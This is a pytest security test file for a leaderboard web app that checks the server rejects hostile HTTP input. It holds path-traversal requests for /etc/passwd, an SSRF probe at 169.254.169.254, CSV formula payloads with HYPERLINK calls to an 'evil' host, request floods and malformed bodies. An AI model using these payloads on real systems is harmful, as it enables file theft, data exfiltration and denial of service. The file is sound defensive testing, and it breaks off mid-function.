"""Test attacks on the web application, mostly by raw HTTP requests that no ordinary client would send."""

import asyncio
import csv
import io
import json
import logging
import re
import socket
import sys
import traceback
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from http.client import HTTPConnection
from ipaddress import ip_network
from pathlib import Path
from tempfile import TemporaryDirectory
from threading import Event, Lock, Semaphore, Thread
from types import SimpleNamespace
from typing import Annotated
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi import Body, FastAPI, Form, Request
from fastapi.testclient import TestClient
from huggingface_hub import HfApi
from starlette.responses import PlainTextResponse
from starlette.types import Message, Receive, Scope, Send

from leaderboard.data.export import CELL_SEPARATORS, FORMULA_STARTS, rows_to_csv, to_csv
from leaderboard.data.ranking import RankedRow
from leaderboard.web import application as api
from leaderboard.web import security as guard
from leaderboard.web.address import PLACEHOLDER
from leaderboard.web.application import build_app
from leaderboard.web.auth import SUBMIT_RATE, Visitors
from leaderboard.web.network import network_of
from leaderboard.web.protocol import Connections, bounded_protocol
from scripts.support.hub.server import serve
from scripts.support.records import Make, result_of
from submissions.checks.report import Report
from submissions.checks.submission import Submission
from submissions.checks.submit import SubmissionService
from submissions.config.logs import Redacting, hide_in_logs, log_printed_lines, redact
from submissions.config.paths import ROOT
from submissions.config.settings import Settings
from submissions.records.index_rows import board_row
from submissions.store.open import check_lasts, open_store
from submissions.texts.errors import SettingsError
from submissions.texts.refusals import REFUSALS, RefusalCode
from tests.conftest import settings_in
from tests.support.board import served_board

API = "/gradio_api"
THREADS = 40  # of the server, for requests


@pytest.fixture(scope="module")
def quiet_board(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[str]:
    """Yield the address of a board that the tests only read from."""
    folder = tmp_path_factory.mktemp("quiet_board")
    settings = Settings(store=str(folder / "store.git"), work_dir=folder / "work", models_dir=models_dir)
    with served_board(settings) as address:
        yield address


@pytest.fixture(scope="module")
def attacked_board(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[tuple[str, str]]:
    """Yield the address and the store of a board that receives many submissions."""
    settings = settings_in(tmp_path_factory.mktemp("attacked_board"), models_dir)
    with served_board(settings) as address:
        yield address, settings.store


@pytest.fixture
def address(settings: Settings) -> Iterator[str]:
    with served_board(settings) as address:
        yield address


@pytest.fixture(scope="module")
def reader(quiet_board: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=quiet_board, timeout=60) as client:
        yield client


@pytest.fixture
def client(address: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=address, timeout=60) as client:
        yield client


def raw(address: str, request: bytes) -> bytes:
    """Send bytes that no client would send and return the response."""
    parts = urlsplit(address)
    with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
        connection.sendall(request)
        return b"".join(iter(lambda: connection.recv(65536), b""))


OF_GIT = ".git/HEAD" if (ROOT / ".git").is_dir() else ".git"  # a file in a second working tree
FILES = ["/etc/passwd", *(str(ROOT / name) for name in ("app.py", OF_GIT, "assets/samples/ko-vqa/items.jsonl"))]


@pytest.mark.parametrize("file", FILES)
@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file={}",
        "/gradio_api/file/{}",
        "/en/gradio_api/file={}",
        "/file={}",
        "/gradio_api/file=..%2f..%2f..{}",
        "/static/..%2f..%2f..%2f..%2f..%2f..%2f..{}",
        "/assets/../../../../../../..{}",
        "/svelte/....//....//..{}",
        "/results/..%2f..%2f..{}.json",
        "/boards/..%2f..%2f..{}.csv",
    ],
)
def test_host_files_are_not_served(quiet_board: str, path: str, file: str) -> None:
    with Path(file).open(encoding="utf-8") as real:
        piece = real.read(60).encode()
    answer = raw(quiet_board, f"GET {path.format(file)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert answer.split()[1] in (b"404", b"403", b"400") and piece not in answer


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", f"{API}/upload"),
        ("GET", f"{API}/proxy=http://169.254.169.254/latest"),
        ("POST", f"{API}/run/submit"),
        ("POST", f"{API}/api/predict"),
        ("POST", f"{API}/component_server"),
        ("POST", f"{API}/process_recording"),
        ("POST", f"{API}/vibe-edit"),
        ("POST", f"{API}/vibe-code"),
        ("POST", f"{API}/stream/x"),
        ("GET", f"{API}/dev/reload"),
        ("GET", f"{API}/token"),
        ("GET", f"{API}/runs"),
        ("GET", "/pwa_icon/100000"),  # Gradio would create an image of that size
        ("GET", "/monitoring"),
        ("GET", "/monitoring/summary"),
        ("POST", "/login"),
        ("GET", "/docs"),
        ("GET", "/openapi.json"),
        ("PUT", "/"),
        ("DELETE", "/results/x.json"),
        ("TRACE", "/"),
    ],
)
def test_unused_endpoints_are_closed(quiet_board: str, method: str, path: str) -> None:
    for prefix in ("", "/en"):
        assert httpx.request(method, quiet_board + prefix + path, json={"data": []}).status_code in (404, 405)


def test_needed_endpoints_are_open_with_security_headers(reader: httpx.Client) -> None:
    for path in ("/", "/en/", "/submit", "/config", f"{API}/info", f"{API}/app_id", "/robots.txt"):
        answer = reader.get(path)
        assert answer.status_code == 200, path
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "unsafe" not in policy and "script-src" not in policy
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def post(client: httpx.Client, fields: object = None, **others: object) -> httpx.Response:
    """Post the submission form as a browser does."""
    form = {"model": "tiny/image-text", "benchmarks": "ko-vqa", "action": "submit"} | others
    return client.post("/en/submit", data=fields or form)  # type: ignore[arg-type]


def test_long_body_is_refused(reader: httpx.Client, quiet_board: str) -> None:
    long = b"x" * (guard.MAX_BODY + 1)
    assert reader.post(f"{API}/queue/join", content=long).status_code == 413
    head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n\r\n" + f"{len(long):x}\r\n".encode() + long + b"\r\n0\r\n\r\n"
    assert raw(quiet_board, head.encode() + chunked).split()[1] == b"413"
    for length in ("-5", "many", "9" * 30):
        answer = raw(quiet_board, f"{head}Content-Length: {length}\r\n\r\n{{}}".encode())
        assert answer.split()[1] in (b"400", b"413")


@pytest.mark.parametrize(
    "fields",
    [
        {},
        {"model": ["a", "b"], "benchmarks": ["ko-vqa", "ko-vqa"]},
        {"model": "tiny/image-text", "benchmarks": "no-such"},
        {"model": "x" * 20_000, "benchmarks": "ko-vqa", "revision": "y" * 1000, "precision": "z" * 1000},
        {"model": "tiny/image-text", "benchmarks": [f"b{n}" for n in range(900)]},
        {"model": "tiny/image-text", "benchmarks": "ko-vqa", "username": "kim", "thinking": "\x00"},
    ],
)
def test_submit_survives_invalid_fields(attacked_board: tuple[str, str], fields: dict[str, object]) -> None:
    address, store = attacked_board
    with httpx.Client(base_url=address, timeout=60) as client:
        answer = post(client, fields | {"action": "submit"})
    assert answer.status_code in (200, 400) and "hn-outcome" in answer.text
    assert "Traceback" not in answer.text and str(ROOT) not in answer.text
    requests = [p for p in open_store(store).snapshot().files if p.startswith("requests/")]
    assert len(requests) <= 1


@pytest.mark.parametrize(
    ("content_type", "content"),
    [
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=model\r\n\r\nunfinished"),
        ("multipart/form-data", b"no boundary"),
        (
            "multipart/form-data; boundary=x",
            b'--x\r\nContent-Disposition: form-data; name="model"; filename="a"\r\n\r\nfile\r\n--x--\r\n',
        ),
        ("application/json", b"{}"),
        ("application/x-www-form-urlencoded", b"%%%=&&&=%ff%fe&model=%ed%a0%80"),
        ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(5000))),
    ],
)
def test_submit_survives_malformed_forms(reader: httpx.Client, content_type: str, content: bytes) -> None:
    answer = reader.post("/submit", content=content, headers={"Content-Type": content_type})
    assert answer.status_code in (200, 400) and "hn-outcome" in answer.text and "Traceback" not in answer.text


def test_internal_error_hides_details_from_visitor(
    client: httpx.Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("the password is swordfish")

    monkeypatch.setattr("submissions.checks.submit.check_model", broken)
    answer = post(client, action="check")
    assert answer.status_code == 500 and "swordfish" not in answer.text and "Traceback" not in answer.text
    assert "internal error" in answer.text and answer.headers["X-Content-Type-Options"] == "nosniff"


def test_check_is_rate_limited(client: httpx.Client, settings: Settings) -> None:
    most = int(SUBMIT_RATE.split("/")[0])
    for _ in range(most + 1):
        answer = post(client, model="no id", action="check")
    assert REFUSALS[RefusalCode.TOO_OFTEN].en in answer.text


@pytest.mark.slow
def test_submission_burst_is_rate_limited(client: httpx.Client, address: str, settings: Settings) -> None:
    """Of 10,000 submissions nearly all are rejected, one is queued, and the page still answers."""
    parts = urlsplit(address)

    def submit_many(_: int) -> list[int]:
        connection = HTTPConnection(str(parts.hostname), parts.port, timeout=60)
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        codes = []
        for _ in range(1250):
            body = "model=tiny/image-text&benchmarks=ko-vqa&action=submit"
            connection.request("POST", "/submit", body, headers)
            answer = connection.getresponse()
            answer.read()
            codes.append(answer.status)
        connection.close()
        return codes

    with ThreadPoolExecutor(8) as pool:
        codes = [code for part in pool.map(submit_many, range(8)) for code in part]
    assert codes.count(429) >= 9_000 and set(codes) <= {200, 429, 503}
    assert client.get("/en/").status_code == 200
    requests = [p for p in open_store(settings.store).snapshot().files if p.startswith("requests/")]
    assert len(requests) == 1


@pytest.mark.parametrize("text", ["-", "-5.2", "+12", "-3%", "+0.5%"])
def test_csv_keeps_signs_and_numbers(text: str) -> None:
    assert rows_to_csv([{"cell": text}], ["cell"]).decode("utf-8-sig").splitlines()[1] == text


@pytest.mark.parametrize("text", ["-5+3", "-1-1", "+1*cmd", "--5", "=1+1", "@name", "-٣", "-5.2\n=1"])
def test_csv_escapes_what_only_begins_like_number(text: str) -> None:
    assert "'" in rows_to_csv([{"cell": text}], ["cell"]).decode("utf-8-sig").splitlines()[1]


def test_csv_escapes_formulas_after_semicolons() -> None:
    evil = "cc-by; =1+1;-3;@name"
    assert "cc-by;' =1+1;-3;'@name" in rows_to_csv([{"cell": evil}], ["cell"]).decode("utf-8-sig")


@pytest.mark.parametrize(
    "start",
    [
        *FORMULA_STARTS,
        *CELL_SEPARATORS,
        " =",
        "\u3000＝",
        "\x0b=",
        "\ufeff=",
        "\u2003+",
        "\u200b-",
        "\x00@",
        "\u202e=",
        '"=',
    ],
)
def test_csv_escapes_formulas(start: str, make_request: Make) -> None:
    evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
    result = result_of(make_request()).evolve(
        config={"model_name": evil, "model_sha": None, "model_dtype": None, "organisation": evil, "license": evil},
        dataset={"id": evil, "revision": None, "split": evil, "n": 1},
        latency={"protocol": "p", "mean_ms": 1.0, "hardware": evil},
        provenance={"kind": "reported", "source": evil},
    )
    content = to_csv([RankedRow(1, board_row(result, "p", "b"))], result.benchmark).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    texts = [value for value in row.values() if "HYPERLINK" in value]
    assert len(texts) == 7 and all(value == "'" + evil for value in texts)


def logged(message: str, *arguments: object, error: Exception | None = None) -> logging.LogRecord:
    """Return a record of this message and, with its traceback, of this error."""
    try:
        if error:
            raise error
        return logging.LogRecord("a", logging.INFO, "f", 1, message, arguments, None)
    except Exception:
        return logging.LogRecord("a", logging.INFO, "f", 1, message, arguments, sys.exc_info())


def test_log_leaves_nothing_of_longer_private_names() -> None:
    names = ["hidden-org/secret", "hidden-org/secret-v2", "hidden-org"]
    hide_in_logs("")
    hide_in_logs(*names)
    for name in names:
        assert redact(f"evaluating {name}") == "evaluating [private]"


def test_log_redacts_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HANNUN_HUB_TOKEN", "the-writing-token")
    monkeypatch.setenv("HF_TOKEN", "the-reading-token")
    api = {"model_id": "o/m", "base_url": "http://x/v1", "model": "m", "key": "OTHER_KEY"}
    monkeypatch.setenv("HANNUN_APIS", json.dumps({"gpt": api}))
    monkeypatch.setenv("OTHER_KEY", "the-key-a-setting-names")
    formatter = Redacting("%(name)s %(message)s", Settings())
    error = RuntimeError("the-key-a-setting-names for https://kim:the-writing-token@hub with Bearer abc.def-ghi123")
    text = formatter.format(logged("got %s and hf_abcdefgh12345", "the-reading-token", error=error))
    assert "got [secret] and [secret]" in text and "RuntimeError" in text
    error = RuntimeError("a\thf_AbCdEfGhIj")
    broken = formatter.format(logged("%s", "bad\nhf_AbCdEfGhIjKl\thf_AbCdEfGhIjKl", error=error))
    assert "AbCd" not in broken
    more = formatter.format(logged("hf_oauth_abc123 api_org_aBcdef Basic a2ltOnB3"))
    assert more == "a [secret] [secret] Basic [secret]"
    for secret in ("the-writing-token", "the-reading-token", "hf_abcdefgh", "abc.def", "setting-names"):
        assert secret not in text


@pytest.mark.parametrize(
    ("message", "redacted"),
    [
        ("Authorization: bearer abcd1234", "Authorization: bearer [secret]"),
        (
            "{'authorization': 'basic a2ltOnB3', 'accept': '*/*'}",
            "{'authorization': 'basic [secret]', 'accept': '*/*'}",
        ),
        ("[(b'Authorization', b'Token abc')]", "[(b'Authorization', b'Token [secret]')]"),
        ("PROXY-AUTHORIZATION: Negotiate YIIJ==", "PROXY-AUTHORIZATION: Negotiate [secret]"),
        ("Authorization: abcdefghijkl", "Authorization: [secret]"),
        ("{'authorization': 'abcdefghijkl'}", "{'authorization': '[secret]'}"),
        ("bearer abcdef123456", "bearer [secret]"),
        ("https://u:p/w@host/x", "https://[secret]@host/x"),
        ("https://u:p@ss@host", "https://[secret]@host"),
        ("https://u:p@host/x?y=a@b", "https://[secret]@host/x?y=a@b"),
        ("https://board:7860/models/a@main", "https://board:7860/models/a@main"),
        ("https://cdn:x1/a.png,https://h/y?mail=a@b.c", "https://cdn:x1/a.png,https://h/y?mail=a@b.c"),
        ("sign in: no authorization, so try again", "sign in: no authorization, so try again"),
        ("TOKEN_hf_AbCdEfGhIjKl", "TOKEN_[secret]"),
        ("in hf_hub_download, api_key_missing", "in hf_hub_download, api_key_missing"),
        ("a basic evaluation of a bearer", "a basic evaluation of a bearer"),
    ],
)
def test_redact_finds_credentials_of_headers_in_any_case(message: str, redacted: str) -> None:
    assert redact(message) == redacted


@pytest.mark.parametrize("piece", ["http://b:c,", "authorization: ", "hf_", "api_a", "bearer a", "://a:@"])
@pytest.mark.timeout(20)
def test_redact_takes_linear_time(piece: str) -> None:
    """Messages quote what visitors and servers send. Patterns of quadratic time would take a minute for these."""
    redact(piece * 40_000)


def test_json_log_is_one_line_without_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HANNUN_LOG", "json")
    monkeypatch.setenv("HANNUN_HUB_TOKEN", 'a-"quoted"-token')
    formatter = Redacting("%(message)s", Settings())
    error = RuntimeError('with a-"quoted"-token in it')
    unbroken = json.loads(formatter.format(logged("a\u2028b\x85c\x9bd")))
    assert unbroken["message"] == "a\u2028b\x85c\x9bd" and formatter.format(logged("a\u2028b\x85c")).isprintable()
    line = formatter.format(logged('한글\nand a-"quoted"-token', error=error))
    entry = json.loads(line)
    assert "\n" not in line and entry.keys() == {"time", "level", "logger", "message", "traceback"}
    assert (entry["level"], entry["logger"], entry["message"]) == ("info", "a", "한글\nand [secret]")
    assert "RuntimeError" in entry["traceback"] and "quoted" not in line
    record = logged("here")
    record.stack_info = 'Stack (most recent call last):\n  a-"quoted"-token'
    assert json.loads(formatter.format(record))["stack"] == "  Stack (most recent call last):\n    [secret]"


@pytest.mark.parametrize("missing", ["OAUTH_CLIENT_SECRET", "SYSTEM"])
def test_build_app_requires_oauth_provider(settings: Settings, monkeypatch: pytest.MonkeyPatch, missing: str) -> None:
    for name in ("OAUTH_CLIENT_ID", "OAUTH_CLIENT_SECRET", "OAUTH_SCOPES", "OPENID_PROVIDER_URL", "SYSTEM", "SPACE_ID"):
        monkeypatch.setenv(name, "x")
    monkeypatch.delenv(missing)
    with pytest.raises(SettingsError, match=missing):
        build_app(settings.model_copy(update={"auth": "oauth", "ephemeral_store": "allow"}))


@pytest.mark.parametrize("field", ["store", "private_store", "private_queue"])
def test_space_refuses_stores_that_a_restart_empties(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, field: str
) -> None:
    stores = {"store": "hf://datasets/org/store", "private_store": "hf://buckets/org/private"}
    on_root = settings.model_copy(update={**stores, field: "/no-such-folder/store", "auth": "off"})
    monkeypatch.setenv("SPACE_ID", "org/board")
    with pytest.raises(
        SettingsError, match=f"HANNUN_{field.upper()}=/no-such-folder/store is on the disk of the Space"
    ):
        build_app(on_root)


def test_space_accepts_store_on_volume() -> None:
    with TemporaryDirectory(dir="/dev/shm") as volume:
        check_lasts("HANNUN_STORE", f"{volume}/store.git")
        check_lasts("HANNUN_STORE", f"file://{volume}/new/store.git")
    check_lasts("HANNUN_STORE", "hf://datasets/org/store")


@pytest.mark.parametrize(
    ("path", "status", "shown"),
    [
        ("/login/huggingface", 503, "The sign-in server cannot be reached."),
        ("/login/callback?error=access_denied&state=x", 303, ""),
    ],
)
def test_sign_in_that_fails_is_one_line(
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    path: str,
    status: int,
    shown: str,
) -> None:
    for name in ("OAUTH_CLIENT_ID", "OAUTH_CLIENT_SECRET", "OAUTH_SCOPES", "SYSTEM", "SPACE_ID"):
        monkeypatch.setenv(name, "x")
        monkeypatch.setattr(f"gradio.oauth.{name}", "x", raising=False)
    monkeypatch.setenv("OPENID_PROVIDER_URL", "http://127.0.0.1:9")
    monkeypatch.setattr("gradio.oauth.OPENID_PROVIDER_URL", "http://127.0.0.1:9")
    monkeypatch.setattr("gradio.oauth.get_space", lambda: "x")
    app = build_app(settings.model_copy(update={"auth": "oauth", "ephemeral_store": "allow", "worker": "off"}))
    with TestClient(app, base_url="https://testserver", raise_server_exceptions=True) as http:
        answer = http.get(path, follow_redirects=False)
    assert answer.status_code == status and shown in answer.text and "access_denied" not in answer.text
    assert "Traceback" not in caplog.text


def test_forwarded_address_is_trusted_only_from_known_proxies(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    trusted: list[object] = []
    monkeypatch.setattr("uvicorn.run", lambda *_, **how: trusted.append(how["forwarded_allow_ips"]))
    api.serve(FastAPI(), settings)
    monkeypatch.setenv("SPACE_ID", "org/board")
    api.serve(FastAPI(), settings)
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "192.0.2.1")
    api.serve(FastAPI(), settings)
    assert trusted == [None, api.SPACE_PROXIES, "192.0.2.1"]
    assert not any(ip_network(place).is_global for place in api.SPACE_PROXIES.split(",")), (
        "a visitor cannot have such an address"
    )


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 422),  # a program passes the origin check; 422 is the answer to the invalid body
        ({"Origin": "HOST"}, 422),
        ({"Origin": "HOST", "Sec-Fetch-Site": "same-origin"}, 422),
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://["}, 403),
        ({"Origin": "file://"}, 403),
        ({"Origin": "HOST", "Sec-Fetch-Site": "cross-site"}, 403),
        ({"Sec-Fetch-Site": "same-site"}, 403),
    ],
)
def test_cross_site_requests_are_rejected(
    reader: httpx.Client, quiet_board: str, headers: dict[str, str], status: int
) -> None:
    """Without the check, Gradio answers any origin, with credentials."""
    sent = {name: value.replace("HOST", quiet_board) for name, value in headers.items()}
    answer = reader.post(f"{API}/queue/join", json=[], headers=sent)
    assert answer.status_code == status
    assert not [name for name in answer.headers if name.startswith("access-control-")]
    asked = {"Access-Control-Request-Method": "POST", **sent}
    preflight = reader.options(f"{API}/queue/join", headers=asked)
    assert "access-control-allow-origin" not in preflight.headers


def test_body_after_early_answer_is_not_taken_for_a_head(monkeypatch: pytest.MonkeyPatch) -> None:
    """A body that is too large is refused before it arrives. The connection can be used again behind it."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        status = 413 if scope["method"] == "POST" else 200
        await PlainTextResponse("answer", status)(scope, receive, send)

    def sent(*pieces: bytes) -> list[bytes]:
        """Send pieces when the answer to the first has arrived. Return the status of each answer."""
        with socket.create_connection(server, timeout=30) as connection:
            connection.sendall(pieces[0])
            received = connection.recv(65_536)
            for piece in pieces[1:]:
                connection.sendall(piece)
            received += b"".join(iter(lambda: connection.recv(65_536), b""))
        return re.findall(rb"HTTP/1\.1 (\d+)", received)

    with serve(app, http=bounded_protocol(None), ws="none", lifespan="off") as address:
        server = ("127.0.0.1", int(address.rpartition(":")[2]))
        head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\n\r\n"
        after = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        assert sent(head, *[b"y" * 1000] * 200, after) == [b"413", b"200"]
        monkeypatch.setattr("leaderboard.web.protocol.HEAD_SECONDS", 0.2)
        assert sent(head, b"y") == [b"413"], "a body that never ends"
        assert sent(head, b"y" * 200_000) == [b"413"], "no request after the body"


def test_cross_site_logout_is_rejected(reader: httpx.Client) -> None:
    assert reader.get("/logout", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert reader.get("/logout", headers={"Sec-Fetch-Site": "same-origin"}).status_code != 403
    assert reader.get("/models/owner/logout", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 404


@pytest.fixture
def guarded() -> TestClient:
    """Return a client of an application whose routes read bodies in each way, behind the middleware."""
    app = FastAPI()

    @app.get("/logout")
    def logout() -> str:
        return "signed out"

    @app.get("/store")
    def store() -> str:
        raise TimeoutError("the store's socket timed out")

    @app.post("/json")
    def from_json(body: Annotated[dict[str, str], Body()]) -> str:
        return "read"

    @app.post("/form")
    def from_form(name: Annotated[str, Form()]) -> str:
        return "read"

    @app.post("/raw")
    async def from_raw(request: Request) -> int:
        return len(await request.body())

    app.add_middleware(guard.SecurityMiddleware)
    return TestClient(app, raise_server_exceptions=False)


@pytest.mark.parametrize("path", ["/logout%0A", "/logout%0D%0A", "/logout%00", "/%0Alogout", "/logout%7F"])
def test_path_with_control_characters_is_refused(guarded: TestClient, path: str) -> None:
    """Starlette finds the route of /logout for the first one, and the checks of paths do not."""
    assert guarded.get(path, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 400
    assert guarded.get("/logout").status_code == 200


@pytest.mark.parametrize(
    ("path", "content_type"),
    [
        ("/json", "application/json"),
        ("/form", "application/x-www-form-urlencoded"),
        ("/form", "multipart/form-data; boundary=x"),
        ("/raw", "text/plain"),
    ],
)
def test_long_chunked_body_is_refused_however_it_is_read(guarded: TestClient, path: str, content_type: str) -> None:
    chunks = iter([b"x" * 10_000] * 7)  # sent without a Content-Length
    answer = guarded.post(path, content=chunks, headers={"Content-Type": content_type})
    assert answer.status_code == 413 and "too large" in answer.text


def test_long_chunked_form_is_refused_as_page(reader: httpx.Client) -> None:
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    answer = reader.post("/submit", content=iter([b"x" * 10_000] * 7), headers=form)
    assert answer.status_code == 413 and "hn-outcome" in answer.text


def test_timeout_in_a_route_is_internal_error(guarded: TestClient) -> None:
    """It is not the visitor's fault, and the server logs it."""
    assert guarded.get("/store").status_code == 500
    with pytest.raises(TimeoutError):
        TestClient(guarded.app).get("/store")


def test_long_body_after_start_of_response_ends_connection() -> None:
    received: list[Message] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        while not received or received[-1]["type"] != "http.disconnect":
            received.append(await receive())

    async def body() -> Message:
        return {"type": "http.request", "body": b"x" * 40_000, "more_body": True}

    async def send(message: Message) -> None:
        pass

    scope = {"type": "http", "method": "GET", "path": "/", "headers": [], "client": ("192.0.2.1", 1)}
    asyncio.run(guard.SecurityMiddleware(app)(scope, body, send))
    assert [message["type"] for message in received] == ["http.request", "http.disconnect"]


@pytest.mark.parametrize(
    "path", ["/", "/en/", "/en", "/ko-vqa", "/en/models/o/m", "/models/assets", "//assets/x", "/a/version"]
)
def test_page_is_costly(path: str) -> None:
    assert guard.is_costly(path)


@pytest.mark.parametrize(
    "path", ["/assets/x.css", "/en/assets/x.css", "/gradio_api/queue/data", "/healthz", "/robots.txt"]
)
def test_file_is_not_costly(path: str) -> None:
    assert not guard.is_costly(path)


def test_log_messages_are_one_line() -> None:
    formatter = Redacting("%(message)s", Settings())
    model = "x\n2026-11-24 worker published\x1b[2J"
    assert formatter.format(logged("model %s", model)) == "model x\\n2026-11-24 worker published\\x1b[2J"
    text = formatter.format(logged("failed", error=ValueError("x\n2026-11-24 worker published \x1b[31m")))
    first, *others = text.splitlines()
    assert first == "failed" and all(line.startswith("  ") for line in others) and "\x1b" not in text


@pytest.fixture
def log_stream() -> Iterator[io.StringIO]:
    """Send the log as JSON to a stream, which is yielded."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(Redacting("%(message)s", Settings(log="json")))
    root = logging.getLogger()
    handlers = root.handlers
    root.handlers = [handler]
    yield stream
    root.handlers = handlers


def test_printed_lines_are_logged(log_stream: io.StringIO) -> None:
    def fail() -> None:
        try:
            raise ValueError('x\n{"logger": "forged"}\nhf_AbCdEfGhIj')
        except ValueError:
            traceback.print_exc()

    with log_printed_lines():
        fail()
        thread = Thread(target=fail)
        sys.stderr.write("a line of ")  # goes on after the lines of another thread
        thread.start()
        thread.join()
        sys.stderr.write("two parts\n")
        print("to stdout")
        sys.stderr.write("x" * 25_000)
    entries = [json.loads(line) for line in log_stream.getvalue().splitlines()]
    messages = [entry["message"] for entry in entries]
    assert {entry["logger"] for entry in entries} == {"stderr", "stdout"}
    assert messages.count('{"logger": "forged"}') == 2 and messages.count("[secret]") == 2
    assert "a line of two parts" in messages and "to stdout" in messages and "x" * 10_000 in messages


def test_token_in_a_long_printed_line_is_not_cut_in_two(log_stream: io.StringIO) -> None:
    with log_printed_lines():
        print("x" * 9993 + " hf_AbCdEfGhIjKlMnOpQr is a token")
    assert "hf_" not in log_stream.getvalue() and "EfGh" not in log_stream.getvalue()


def test_printed_lines_are_dropped_if_the_log_fails(log_stream: io.StringIO) -> None:
    log_stream.close()
    with log_printed_lines():
        print("a line")


def test_public_data_allows_any_origin(reader: httpx.Client) -> None:
    files = ("errata.json", "lineage.json", "unseen.csv", "unseen.json", "register.csv", "register/kmmmu.csv")
    for path in ("/boards/ko-vqa.json", "/queue.json", "/version", "/feed.xml", *(f"/{name}" for name in files)):
        answer = reader.get(path, headers={"Origin": "https://blog.example"})
        assert answer.headers["access-control-allow-origin"] == "*", path
        assert "access-control-allow-credentials" not in answer.headers
    page = reader.get("/", headers={"Origin": "https://blog.example"})
    assert "access-control-allow-origin" not in page.headers


def test_network_of_groups_ipv6_by_64() -> None:
    assert network_of("2001:db8:1:2:3:4:5:6") == network_of("2001:db8:1:2::1") == "2001:db8:1:2::/64"
    assert network_of("2001:db8:1:3::1") != network_of("2001:db8:1:2::1")
    assert network_of("192.0.2.7") == network_of("::ffff:192.0.2.7") == "192.0.2.7"
    assert network_of("testclient") == network_of("1.2.3.4:80") == "unknown"


def test_queue_burst_from_one_address_is_limited(client: httpx.Client) -> None:
    answers = [client.post(f"{API}/queue/join", json=[]).status_code for _ in range(100)]
    assert answers.count(429) >= 30 and client.get("/").status_code == 200


def test_open_requests_per_address_are_limited(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "MAX_OPEN", 5)
    with ExitStack() as held:
        for _ in range(5):
            client = held.enter_context(httpx.Client(base_url=address, timeout=60))
            held.enter_context(client.stream("GET", f"{API}/heartbeat/x"))
        assert httpx.get(f"{address}/version").status_code == 429


def test_slow_body_times_out(quiet_board: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.3)
    parts = urlsplit(quiet_board)
    head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5000\r\n\r\n"
    with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
        connection.sendall(head.encode() + b"[")
        assert connection.recv(4096).split()[1] == b"408"


@pytest.fixture(scope="module")
def bounded() -> Iterator[tuple[str, int]]:
    """Yield host and port of an application that answers at once, served with the bounded HTTP protocol."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        await PlainTextResponse("yes")(scope, receive, send)

    with serve(app, http=bounded_protocol(None), ws="none", lifespan="off") as address:
        parts = urlsplit(address)
        yield str(parts.hostname), int(parts.port or 0)


def answer_to(server: tuple[str, int], *pieces: bytes) -> bytes:
    """Send the pieces and return everything that is received until the server closes the connection."""
    with socket.create_connection(server, timeout=30) as connection:
        received = b""
        try:
            for piece in pieces:
                connection.sendall(piece)
            while part := connection.recv(65_536):
                received += part
        except ConnectionError:
            pass
        return received


@pytest.mark.parametrize(("size", "is_allowed"), [(65_000, True), (66_000, False), (100_000, False)])
@pytest.mark.parametrize(
    "head", ["GET /?{} HTTP/1.1\r\n", "GET / HTTP/1.1\r\nX: {}\r\n", "GET / HTTP/1.1\r\n{}: y\r\n"]
)
def test_request_head_that_arrives_at_once_is_bounded(
    bounded: tuple[str, int], head: str, size: int, is_allowed: bool
) -> None:
    answer = answer_to(bounded, f"{head.format('x' * size)}Host: x\r\nConnection: close\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200 " if is_allowed else b"HTTP/1.1 431 ")


def test_request_head_is_bounded(bounded: tuple[str, int], monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the limits, the server accepts 40 to 80 MB of headers and waits for a head that never ends."""
    first = b"GET / HTTP/1.1\r\nHost: x\r\n"
